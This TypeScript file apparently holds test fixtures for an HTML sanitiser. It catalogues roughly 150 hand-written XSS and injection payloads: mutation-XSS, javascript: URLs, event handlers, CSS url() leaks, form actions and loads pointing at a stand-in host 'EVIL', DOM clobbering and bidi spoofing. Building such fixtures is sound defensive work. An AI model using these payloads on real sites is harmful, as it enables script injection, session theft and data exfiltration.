/**
 * Hostile HTML, written by hand: what people try against a sanitiser and the browser behind it. In each, JS stands for a
 * script that reports itself (`hit(number)`), and EVIL for an address of the attacker's host that names the number.
 */
export const PAYLOADS: Readonly<Record<string, string>> = {
  // Scripts
  script: '<script>JS</script>',
  'script of elsewhere': '<script src="http://EVIL"></script>',
  'script in capitals with a slash': '<SCRIPT/x>JS</SCRIPT>',
  'script within script': '<scr<script>ipt>JS</scr</script>ipt>',
  'script never closed': '<script>JS',
  'script closed with a blank': '<script >JS</script >',
  'script as a module': '<script type="module">JS</script>',
  'script in an XML namespace': '<x:script xmlns:x="http://www.w3.org/1999/xhtml">JS</x:script>',
  'script behind NUL': '<\0script>JS</script><scr\0ipt>JS</script>',
  'script in wide letters': '\uff1cscript\uff1eJS\uff1c/script\uff1e',
  'script in entities': '&lt;script&gt;JS&lt;/script&gt;',
  'script in doubled entities': '&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;',
  'script in UTF-7': '+ADw-script+AD4-JS+ADw-/script+AD4-',
  // Event handlers
  'img onerror': '<img src=x onerror="JS">',
  'img onerror by slashes': '<img/src=x/onerror=JS>',
  'img onerror without quotes': '<img src=x onerror=JS>',
  'img onerror in backquotes': '<img src=`x` onerror=`JS`>',
  'img onerror in entities': '<img src=x onerror="&#104;it&#40;&#78;&#41;JS">',
  'body onload': '<body onload="JS">',
  'div with every handler':
    '<div onclick="JS" onmouseover="JS" onfocus="JS" onpointerenter="JS" onwheel="JS" oncopy="JS" tabindex=0>x</div>',
  'animation and transition':
    '<b style="animation:x 1s;transition:all 1s" onanimationstart="JS" ontransitionend="JS">x</b>',
  'details ontoggle': '<details open ontoggle="JS">x</details>',
  'marquee onstart': '<marquee onstart="JS">x</marquee>',
  'audio and video': '<audio src=x onerror="JS"></audio><video><source onerror="JS" src=x></video>',
  autofocus: '<a href=# autofocus onfocus="JS">x</a><input autofocus onfocus="JS">',
  popover: '<button popovertarget=x>x</button><b popover id=x onbeforetoggle="JS">x</b>',
  'content-visibility': '<b style="content-visibility:auto" oncontentvisibilityautostatechange="JS">x</b>',
  'scrollend and snap': '<div onscrollend="JS" onscroll="JS" style="overflow:auto;height:9px">x<br>x</div>',
  'handler after a line end': '<img src=x\nonerror\n=\n"JS">',
  'handler after a form feed': '<img\x0csrc=x\x0conerror="JS">',
  'handler after quotes': '<img src="x"onerror="JS">',
  'handler in a broken quote': `<img alt="x' onerror='JS" src=x onerror="JS'>`,
  'handler in capitals': '<IMG SRC=x ONERROR="JS">',
  'handler with NUL': '<img src=x on\0error="JS">',
  'handler in an allowed attribute': `<p title="'><img src=x onerror='JS'>">x</p>`,
  'handler in alt': '<img alt="<img src=x onerror=JS>" src="cid:one@pictures.example">',
  'handler in an end tag': '<p>x</p onclick="JS"></b style="x" onmouseover="JS">',
  // SVG and MathML
  'svg onload': '<svg onload="JS">',
  'svg script': '<svg><script>JS</script></svg>',
  'svg script with href': '<svg><script href="http://EVIL"/></svg>',
  'svg animate to javascript':
    '<svg><a><animate attributeName=href values="javascript:JS"/><text x=20 y=20>x</text></a></svg>',
  'svg set': '<svg><set attributeName=onmouseover to="JS" /><circle r=9 /></svg>',
  'svg use': '<svg><use href="data:image/svg+xml,<svg id=x><script>JS</script></svg>#x" /></svg>',
  'svg foreignObject': '<svg><foreignObject><iframe srcdoc="<script>JS</script>"></iframe></foreignObject></svg>',
  'svg image': '<svg><image href="http://EVIL" /><feImage href="http://EVIL" /></svg>',
  'svg style': '<svg><style>@import "http://EVIL";</style></svg>',
  'svg as data': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhpdCgxKSIvPg==">',
  'math href': '<math href="javascript:JS">x</math><math><maction xlink:href="javascript:JS">x</maction></math>',
  'math annotation': '<math><annotation-xml encoding="text/html"><img src=x onerror="JS"></annotation-xml></math>',
  // What a second parse turns into something else
  'mXSS by math and style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;">',
  'mXSS by form and mglyph':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="JS"></style></mglyph></form>',
  'mXSS by svg and p': '<svg></p><style><a id="</style><img src=1 onerror=JS>">',
  'mXSS by title': '<svg><title><style><img src="</style><img src=x onerror=JS>"></title></svg>',
  'mXSS by noscript': '<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>',
  'mXSS by select':
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=JS>">',
  'mXSS by table': '<table><a href="x"><style><img src="</style></table><img src=x onerror=JS>">',
  'mXSS by backquotes': '<p title="``onmouseover=JS">x</p><img alt="``onerror=JS" src=x>',
  'mXSS by deep nesting': `${'<div>'.repeat(90)}<table><caption><svg><desc><table><caption></caption></table><style><a title="</style><img src=x onerror=JS>">`,
  'mXSS by foster parents': '<table><tr><math><td><mi><style></mi></td></math><img src=x onerror="JS"></style>',
  'mXSS by desc': '<svg><desc><svg><style><!--</style><img alt="--><img src=x onerror=JS>"></svg></desc></svg>',
  'mXSS by nested a': '<a href="https://a.example"><div><a href="https://b.example"><p><a onclick="JS" href=#>x',
  // Raw text
  template: '<template><img src=x onerror="JS"></template>',
  'shadow root': '<div><template shadowrootmode="open"><img src=x onerror="JS"></template></div>',
  xmp: '<xmp><img src=x onerror="JS"></xmp><xmp></xmp><img src=x onerror="JS"></xmp>',
  plaintext: 'x<plaintext><img src=x onerror="JS">',
  textarea: '<textarea></textarea><img src=x onerror="JS"></textarea>',
  title: '<title></title><img src=x onerror="JS"></title>',
  noframes: '<noframes></noframes><img src=x onerror="JS">',
  noembed: '<noembed></noembed><img src=x onerror="JS"></noembed>',
  'listing and pre': '<listing>&lt;img src=x onerror="JS"&gt;</listing><pre>\n\n&lt;img src=x onerror=JS&gt;</pre>',
  // Comments and the like
  comment: '<!--><img src=x onerror="JS">-->',
  'comment with a bang': '<!-- --!><img src=x onerror="JS"> -->',
  'comment of dashes': '<!---><img src=x onerror="JS"><!--->',
  'comment never closed': '<!-- <img src=x onerror="JS">',
  'conditional comment':
    '<!--[if gte IE 4]><script>JS</script><![endif]--><![if true]><img src=x onerror="JS"><![endif]>',
  'conditional with an attribute': '<!--[if <img src=x onerror=JS//]> -->',
  CDATA: '<![CDATA[<img src=x onerror="JS">]]><svg><![CDATA[><img src=x onerror="JS">]]></svg>',
  'processing instruction': '<?xml version="1.0"?><?php x ?><?x ><img src=x onerror="JS"><!x><img src=x onerror="JS">',
  doctype: '<!DOCTYPE html [<!ENTITY x SYSTEM "http://EVIL">]><p>&x;</p>',
  'end tag as a comment': '</ img src=x onerror="JS"></#><img src=x onerror="JS">',
  // Addresses
  'javascript link': '<a href="javascript:JS">x</a>',
  'javascript link in capitals': '<a href=" JaVaScRiPt:JS">x</a>',
  'javascript link with tabs': '<a href="java\tscript:JS">x</a><a href="java&Tab;script&colon;JS">x</a>',
  'javascript link with line ends': '<a href="java\nscr\ript:JS">x</a><a href="&#10;javascript:JS">x</a>',
  'javascript link with controls': '<a href="\x01javascript:JS">x</a><a href="&#x1;&#x1f; javascript:JS">x</a>',
  'javascript link in entities': '<a href="&#106;&#x61;vascript&#58;JS">x</a><a href=&#0000106avascript:JS>x</a>',
  'javascript link behind NUL': '<a href="java\0script:JS">x</a><a href="&#0;javascript:JS">x</a>',
  'javascript link with a soft hyphen': '<a href="java\u00adscript:JS">x</a><a href="\ufeffjavascript:JS">x</a>',
  'vbscript, livescript, mocha': '<a href="vbscript:JS">x</a><a href="livescript:JS">x</a><a href="mocha:JS">x</a>',
  'data link': '<a href="data:text/html,<script>JS</script>">x</a>',
  'blob, file, view-source': '<a href="blob:x">x</a><a href="file:///etc/passwd">x</a><a href="view-source:x">x</a>',
  'feed of javascript': '<a href="feed:javascript:JS">x</a><a href="jar:javascript:JS">x</a>',
  'xlink and formaction': '<a xlink:href="javascript:JS">x</a><button formaction="javascript:JS">x</button>',
  'image map': '<img usemap="#m" src=x><map name=m><area shape=default href="javascript:JS"></map>',
  'ping and download': '<a href="https://a.example/" ping="http://EVIL" download="x.exe">x</a>',
  'img with javascript': '<img src="javascript:JS"><img lowsrc="javascript:JS" dynsrc="javascript:JS">',
  'protocol relative': '<a href="//EVIL">x</a><img src="//EVIL"><img src="\\\\EVIL"><img src="/\\EVIL">',
  // What loads
  'picture of elsewhere': '<img src="http://EVIL">',
  srcset: '<img srcset="http://EVIL 1x, //EVIL 2x" src="cid:one@pictures.example" sizes=1px>',
  picture: '<picture><source srcset="http://EVIL"><img src="http://EVIL"></picture>',
  'loading by the browser':
    '<img loading=eager fetchpriority=high src="http://EVIL" crossorigin referrerpolicy=unsafe-url>',
  'background attribute':
    '<table background="http://EVIL"><tr><td background="http://EVIL">x</td></tr></table><body background="http://EVIL">',
  'link and preload':
    '<link rel=stylesheet href="http://EVIL"><link rel=preload as=image href="http://EVIL"><link rel="dns-prefetch" href="//EVIL"><link rel=prefetch href="http://EVIL">',
  'link to a manifest and icon': '<link rel=manifest href="http://EVIL"><link rel=icon href="http://EVIL">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=http://EVIL">',
  'meta refresh in parts': "<META HTTP-EQUIV='Refresh' CONTENT='0; URL=\"http://EVIL\"'>",
  'meta policy':
    '<meta http-equiv="Content-Security-Policy" content="report-uri http://EVIL"><meta http-equiv="set-cookie" content="a=b">',
  base: '<base href="http://EVIL/"><img src="a.png"><a href="b">x</a>',
  'base target': '<base target="_top"><a href="http://EVIL">x</a>',
  iframe: '<iframe src="http://EVIL"></iframe><iframe src="javascript:JS"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>parent.JS</script>"></iframe>',
  'frameset, portal, fencedframe':
    '<frameset><frame src="javascript:JS"></frameset><portal src="http://EVIL"></portal><fencedframe></fencedframe>',
  'object and embed':
    '<object data="http://EVIL"><param name=src value="http://EVIL"></object><embed src="http://EVIL">',
  'object as a document': '<object data="data:text/html,<script>parent.JS</script>"></object><applet code=x></applet>',
  'audio, video, track':
    '<video poster="http://EVIL" src="http://EVIL" autoplay><track src="http://EVIL" default></video><audio src="http://EVIL" autoplay>',
  'input as a picture': '<input type=image src="http://EVIL"><input type=hidden name=x value=y>',
  form: '<form action="http://EVIL" id=f><input name=password><button>x</button></form><button form=f formaction="http://EVIL">x</button>',
  'form that sends itself': '<form action="http://EVIL"><input autofocus onfocus="this.form.submit()"></form>',
  'isindex and keygen': '<isindex action="javascript:JS" type=image><keygen autofocus onfocus="JS">',
  // CSS
  'css url':
    '<p style="background:url(http://EVIL)">x</p><p style="background-image:image-set(\'http://EVIL\' 1x)">x</p>',
  'css url by escapes':
    '<p style="background:\\75\\72\\6c(http://EVIL)">x</p><p style="background:u\\rl(http://EVIL)">x</p>',
  'css url by comments':
    '<p style="background:ur/**/l(http://EVIL)">x</p><p style="background:/*;*/url(http://EVIL)">x</p>',
  'css lists and cursors':
    '<li style="list-style:url(http://EVIL);list-style-image:url(//EVIL);cursor:url(http://EVIL),auto">x</li>',
  'css content and border':
    '<p style="content:url(http://EVIL);border-image:url(http://EVIL) 1;mask:url(http://EVIL);filter:url(http://EVIL)">x</p>',
  'css expression':
    '<p style="width:expression(JS);width:e\\xpression(JS);behavior:url(http://EVIL);-moz-binding:url(http://EVIL)">x</p>',
  'css variables': '<p style="--x:url(http://EVIL);background:var(--x)">x</p>',
  'css attr and src': '<p title="http://EVIL" style="background:attr(title url);background:src(\'http://EVIL\')">x</p>',
  'style sheet': '<style>@import url(http://EVIL);*{background:url(http://EVIL)}</style><p>x</p>',
  'style sheet with an end inside': '<style>a{x:"</style><img src=x onerror=JS>"}</style>',
  'font face':
    '<style>@font-face{font-family:x;src:url(http://EVIL)}p{font-family:x}</style><p style="font-family:x">x</p>',
  'style in font and quotes': `<p style="font-family:'x;background:url(http://EVIL)'">x</p><p style="font-family:'x"y'">x</p>`,
  'style in a legacy attribute':
    '<font face="x;background:url(http://EVIL)" color="red;background:url(http://EVIL)">x</font>',
  // Tags and quotes left open
  'quote left open': '<a href="https://a.example/',
  'tag left open': '<img src=x onerror="JS"',
  'attribute left open': '<p title="<p title=\'<img src=x onerror=JS>',
  'picture left open': `<img src='http://EVIL?`,
  'comment in a tag': '<p <!-- title="--><img src=x onerror=JS>">x</p>',
  'bracket doubled': '<<img src=x onerror="JS">><<<script>JS//<</script>',
  'end tags that leave':
    '</div></div></td></tr></table></blockquote></section></main></body></html><img src=x onerror="JS">',
  'element names made up': '<x-evil onclick="JS">x</x-evil><image src=x onerror="JS"><isolate><b\0r onclick="JS">',
  // What a page takes for its own
  clobbering:
    '<a id=document name=location href="http://EVIL">x</a><img name=body id=hit><form id=parent><input name=hit></form>',
  'id and class': '<p id="app" class="modal-open">x</p><b name="getElementById">x</b>',
  'link opener': '<a href="http://EVIL" target="_parent" rel="opener">x</a><a href="http://EVIL" target="app">x</a>',
  'accesskey and contenteditable':
    '<a href="https://a.example" accesskey=s contenteditable>x</a><p draggable=true is=x-evil slot=x>x</p>',
  'invisible text': '<p style="font-size:0;color:transparent;opacity:0;display:none">x</p><p hidden inert>x</p>',
  'words against the reader': '<p dir=rtl>\u202egpj.exe</p><bdo dir=rtl>x</bdo>\u200b\u2066',
  'data attributes':
    '<p data-action="JS" data-bind="JS" ng-app ng-init="JS" v-html="JS" x-data="JS" hx-get="http://EVIL">{{constructor.constructor("JS")()}}</p>',
};
